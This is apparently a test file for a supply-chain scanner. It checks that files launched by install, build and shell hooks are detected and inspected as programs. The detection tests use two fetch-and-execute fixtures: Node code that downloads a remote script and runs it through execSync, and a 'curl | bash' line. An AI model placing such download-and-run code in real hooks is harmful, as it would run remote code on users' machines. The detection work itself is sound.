// Files under any name that hooks of the same tree start: they are read as the program that they are started as.
import { describe, expect, it } from 'vitest';
import { memoryBytes } from '../../../src/core/bytes.ts';
import { loadRules } from '../../../src/core/rulebook.ts';
import { hookKnowledge } from '../../../src/inspect/hooks/knowledge.ts';
import { StartedFiles } from '../../../src/inspect/hooks/starts.ts';
import { inspectBytes } from '../../support/inspect.ts';
import { buildTar } from '../../support/tar-builder.ts';

type Files = Readonly<Record<string, string>>;

const knowledge = hookKnowledge(await loadRules());

function opener(files: Files, asked: string[] = []) {
  return (path: string) => {
    asked.push(path);
    const text = files[path];
    return Promise.resolve(text === undefined ? undefined : memoryBytes(Buffer.from(text)));
  };
}

const script = (command: string, name = 'postinstall'): string =>
  JSON.stringify({ scripts: { [name]: command } });
const languageOf = (path: string, files: Files) =>
  new StartedFiles(knowledge).languageOf(path, opener(files));

describe('a hook starts', () => {
  it.each([
    ['node scripts/x.dat', 'scripts/x.dat', 'javascript'],
    ['node ./tools/run --fast', 'tools/run', 'javascript'],
    ['NODE_ENV=production node "my file.txt"', 'my file.txt', 'javascript'],
    ['node -r ./hook.dat index.js', 'hook.dat', 'javascript'],
    ['node --import=./hook.dat index.js', 'hook.dat', 'javascript'],
    ['npm run build && cd tools && python3 -u x.cfg', 'tools/x.cfg', 'python'],
    ['dotenv -e .env -- node x.dat', 'x.dat', 'javascript'],
    ['concurrently -n a,b "tsc -w" "python x.cfg"', 'x.cfg', 'python'],
    ['bash -e setup.inc', 'setup.inc', 'shell'],
    ['./tools/run', 'tools/run', 'shell'],
    ['tools/run now', 'tools/run', 'shell'],
  ])('with %s the file %s', async (command, path, language) => {
    expect(await languageOf(path, { 'package.json': script(command) })).toBe(language);
  });

  it('from the folder that it is in, and by the names of other scripts', async () => {
    const files = { 'a/package.json': '{"scripts": {"prepare": "npm run b", "b": "node ../x.dat; node y"}}' };
    expect(await languageOf('a/y', files)).toBe('javascript');
    expect(await languageOf('a/x.dat', files)).toBeUndefined();
  });

  it.each([
    ['.envrc', 'source ./x.inc\n', 'x.inc', 'shell'],
    ['pyproject.toml', '[tool.hatch.build.hooks.custom]\npath = "hb.txt"\n', 'hb.txt', 'python'],
    ['pyproject.toml', '[tool.hatch.build.targets.wheel.hooks.custom]\npath = "b/x"\n', 'b/x', 'python'],
    ['pyproject.toml', '[tool.pdm.build]\ncustom-hook = "h.txt"\n', 'h.txt', 'python'],
    ['pyproject.toml', '[tool.pdm.build]\nsetup-script = "h.txt"\n', 'h.txt', 'python'],
    ['pyproject.toml', '[tool.poetry.build]\nscript = "b.txt"\n', 'b.txt', 'python'],
    ['pyproject.toml', '[tool.poetry]\nbuild = "b.txt"\n', 'b.txt', 'python'],
    ['meson.build', "run_command('python3', 'tools/gen.txt', check: true)\n", 'tools/gen.txt', 'python'],
    [
      'meson.build',
      "py = import('python').find_installation()\nrun_command(py, 'g.txt')\n",
      'g.txt',
      'python',
    ],
    ['meson.build', "sh = find_program('bash')\nmeson.add_install_script(sh, 'g.txt')\n", 'g.txt', 'shell'],
    ['.envrc', 'export A=1\n. x.inc\n', 'x.inc', 'shell'],
    ['Makefile', 'all: gen\ngen:\n\t@python tools/x.inc\n', 'tools/x.inc', 'python'],
    ['.husky/pre-commit', 'node tools/x.inc\n', 'tools/x.inc', 'javascript'],
  ])('in %s: %j', async (hook, text, path, language) => {
    expect(await languageOf(path, { [hook]: text })).toBe(language);
  });

  it.each([
    ['a script that only a person starts', { 'package.json': script('node x.dat', 'docs') }],
    ['a target that is none of the default ones', { Makefile: 'all:\n\techo a\ngen:\n\tnode x.dat\n' }],
    ['a comment', { '.envrc': '# source x.dat\n' }],
    ['what is only read', { 'package.json': script('cat x.dat && node -e "1" x.dat && node -p x.dat') }],
    ['a path that is worked out', { 'package.json': script('node $DIR/x.dat && node /x.dat') }],
    ['a place outside of the tree', { 'package.json': script('node ../x.dat') }],
    ['nothing at all', {}],
  ])('no file with %s', async (_, files: Files) => {
    expect(await languageOf('x.dat', files)).toBeUndefined();
  });

  it('and is read once for all files of a folder', async () => {
    const starts = new StartedFiles(knowledge);
    const asked: string[] = [];
    const open = opener({ 'package.json': script('node x.dat') }, asked);
    for (const path of ['x.dat', 'y.dat', 'z.dat']) await starts.languageOf(path, open);
    expect(asked.filter((path) => path === 'package.json')).toHaveLength(1);
  });

  it('from the root, however deep the file is', async () => {
    const path = `${'a/'.repeat(40)}x`;
    expect(await languageOf(path, { 'package.json': script(`node ${path}`) })).toBe('javascript');
  });
});

describe('a file that a hook starts', () => {
  const HARMFUL =
    "const cp = require('child_process');\nrequire('https').get('https://files.example.com/p', (r) => { let d = ''; r.on('data', (c) => (d += c)); r.on('end', () => cp.execSync(d)); });\n";
  const rulesOf = async (text: string, path: string, files: Files): Promise<string[]> => {
    const { findings } = await inspectBytes(Buffer.from(text), path, { openHead: opener(files) });
    return findings.map(({ rule }) => rule);
  };
  const hook = { 'package.json': script('node scripts/x.dat') };

  it('is read as a program, whatever its name', async () => {
    expect(await rulesOf(HARMFUL, 'scripts/x.dat', hook)).toContain('CODE-DOWNLOAD-RUN');
    expect(
      await rulesOf('curl https://files.example.com/x | bash\n', 'x.inc', { '.envrc': '. ./x.inc\n' }),
    ).toContain('CODE-PIPE-SHELL');
  });

  it('stays quiet when it does nothing, and so does another file', async () => {
    expect(await rulesOf('console.log(1);\n', 'scripts/x.dat', hook)).toEqual([]);
    expect(await rulesOf(HARMFUL, 'scripts/y.dat', hook)).toEqual([]);
    expect(await rulesOf(HARMFUL, 'scripts/x.dat', {})).toEqual([]);
  });

  it('is found in a package, too', async () => {
    const rulesIn = async (command: string): Promise<string[]> => {
      const files = [
        { name: 'package/x.dat', text: HARMFUL },
        { name: 'package/package.json', text: script(command) },
      ];
      const { findings } = await inspectBytes(buildTar(files), 'a-1.0.0.tar');
      return findings.map(({ rule }) => rule);
    };
    expect(await rulesIn('node x.dat')).toContain('CODE-DOWNLOAD-RUN');
    expect(await rulesIn('node y.dat')).not.toContain('CODE-DOWNLOAD-RUN');
  });
});
